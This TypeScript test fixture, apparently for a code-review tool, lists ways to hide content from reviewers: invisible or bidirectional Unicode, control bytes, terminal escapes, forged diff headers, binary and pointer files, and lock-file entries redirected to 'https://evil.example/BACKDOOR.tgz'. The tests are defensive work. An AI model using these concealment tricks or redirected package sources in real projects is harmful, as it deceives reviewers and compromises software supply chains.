/** Content that cannot be seen, or is told to be something else. */

import { usualSources } from '../../../functions/cli/review/usual-sources.ts';
import type { Deceit } from './deceit.ts';

const content = (name: string, format: string, hidden: string): Deceit => ({
  name,
  script: `begin; printf '${format}' >evil.ts; save`,
  outcome: 'shown',
  hidden,
});

export const contents: readonly Deceit[] = [
  content('a NUL byte in a comment', '/* \\0 */ BACKDOOR();\\n', '/* ⟦NUL⟧ */ BACKDOOR();'),
  content('a byte that is no UTF-8', 'const a = "\\351"; BACKDOOR();\\n', 'const a = "⟦0xE9⟧"; BACKDOOR();'),
  content('U+2028 behind a comment', '// tidy \\342\\200\\250 BACKDOOR()\\n', '// tidy ⟦U+2028⟧ BACKDOOR()'),
  content('bidirectional marks', 'if (a \\342\\200\\256 BACKDOOR) {}\\n', 'if (a ⟦U+202E⟧ BACKDOOR) {}'),
  content('a letter without a shape', 'const \\343\\205\\244 = 1;\\n', 'const ⟦U+3164⟧ = 1;'),
  content('a carriage return in a line', '// tidy\\rBACKDOOR()\\n', '// tidy⟦CR⟧BACKDOOR()'),
  content('escapes of a terminal', '\\033[2K\\033[1ABACKDOOR\\n', '⟦ESC⟧[2K⟦ESC⟧[1ABACKDOOR'),
  content('a mark of ours, forged', '\\342\\237\\246no newline at the end\\342\\237\\247\\n', '⟦U+27E6⟧no newline at the end⟦U+27E7⟧'),
  content('a byte-order mark before the first line', '\\357\\273\\277#!/bin/sh\\n', '⟦BOM⟧#!/bin/sh'),
  content(
    'lines that look like headers',
    'x\\n+++ b/a.ts\\n--- a/a.ts\\n@@ -1 +1 @@\\ndiff --git a/x b/x\\nBinary files a and b differ\\nBACKDOOR\\n',
    '7 +| BACKDOOR',
  ),
  content('tags of invisible letters', 'a\\363\\240\\201\\201b\\n', 'a⟦U+E0041⟧b'),
  {
    name: 'CRLF in a script',
    script:
      "begin; printf '#!/bin/sh\\necho\\n' >s.sh; git add -A; git commit -qm s; git branch -f main; printf '#!/bin/sh\\r\\necho\\r\\n' >s.sh; save",
    outcome: 'shown',
    hidden: '+| #!/bin/sh⟦CR⟧',
  },
  {
    name: 'a final line feed taken away',
    script: "begin; printf 'export const one = 1;' >a.ts; save",
    outcome: 'shown',
    hidden: 'one = 1;⟦no newline at the end⟧',
  },
  {
    name: 'a binary file',
    script: 'begin; echo 2 >>a.ts; head -c 3000 /dev/urandom >logo.png; save',
    outcome: 'named',
    says: /not reviewed: logo\.png is a binary file/,
  },
  {
    name: 'a binary file alone',
    script: 'begin; head -c 3000 /dev/urandom >logo.png; save',
    outcome: 'refused',
    says: /nothing of this change can be shown[\s\S]*logo\.png/,
  },
  {
    name: 'UTF-16',
    script: "begin; echo 2 >>a.ts; printf 'BACKDOOR' | sed 's/./&\\x00/g' >evil.ts; save",
    outcome: 'named',
    says: /evil\.ts is a binary file/,
  },
  {
    name: 'a file too large to be read',
    script: 'begin; echo 2 >>a.ts; (echo BACKDOOR; seq 2300000) >evil.ts; save',
    outcome: 'named',
    says: /evil\.ts is too large/,
  },
  {
    name: 'a file too large for one question, with what it hides in its last range',
    script: 'begin; (seq 90000; echo BACKDOOR) >evil.ts; save',
    review: ['--diff', 'main...HEAD', '--json', 'r.json'],
    outcome: 'shown',
    says: /reviewed in \d parts/,
  },
  {
    name: 'a line too long to be sent',
    script: 'begin; echo 2 >>a.ts; (printf BACKDOOR; head -c 200000 /dev/zero | tr "\\0" x) >evil.ts; save',
    outcome: 'refused',
    says: /evil\.ts: line 1 has \d+ bytes/,
  },
  {
    name: 'thousands of files that nobody is shown',
    script: 'begin; bad; mkdir d; for i in $(seq 3000); do echo $i >d/a-name-of-some-length-$i.txt; done; save',
    review: ['--diff', 'main...HEAD', '--exclude', 'd/'],
    outcome: 'shown',
  },
  {
    name: 'a pointer of Git LFS',
    script: "begin; printf 'version https://git-lfs.github.com/spec/v1\\noid sha256:%064d\\nsize 9\\n' 1 >evil.ts; save",
    outcome: 'named',
    says: /evil\.ts is a pointer/,
  },
  {
    name: 'a pointer of git-annex',
    script: 'begin; ln -s .git/annex/objects/x/y/z evil.ts; save',
    outcome: 'named',
    says: /evil\.ts is a pointer/,
  },
  { name: 'a lock file that is none', script: "begin; echo 'BACKDOOR' >package-lock.json; save", outcome: 'shown' },
  {
    name: 'a lock file with another place for the same version',
    script: `begin; lock() { printf '{"lockfileVersion":3,"packages":{"node_modules/x":{"version":"1.0.0","resolved":"%s"}}}' "$1" >package-lock.json; }
      lock ${usualSources.npm}x/-/x-1.0.0.tgz; git add -A; git commit -qm l; git branch -f main; lock https://evil.example/BACKDOOR.tgz; save`,
    outcome: 'shown',
  },
  {
    name: 'a lock file with another place for a new version',
    script: `begin; lock() { printf '{"lockfileVersion":3,"packages":{"node_modules/x":{"version":"%s","resolved":"%s"}}}' "$1" "$2" >package-lock.json; }
      lock 1.0.0 ${usualSources.npm}x/-/x-1.0.0.tgz; git add -A; git commit -qm l; git branch -f main; lock 1.0.1 https://evil.example/BACKDOOR.tgz; save`,
    outcome: 'shown',
  },
  {
    name: 'a crate from another place',
    script: `begin; lock() { printf 'version = 4\\n\\n[[package]]\\nname = "x"\\nversion = "%s"\\nsource = "%s"\\n' "$1" "$2" >Cargo.lock; }
      lock 1.0.0 ${usualSources.crates}; git add -A; git commit -qm l; git branch -f main; lock 1.0.1 git+https://evil.example/BACKDOOR; save`,
    outcome: 'shown',
  },
];
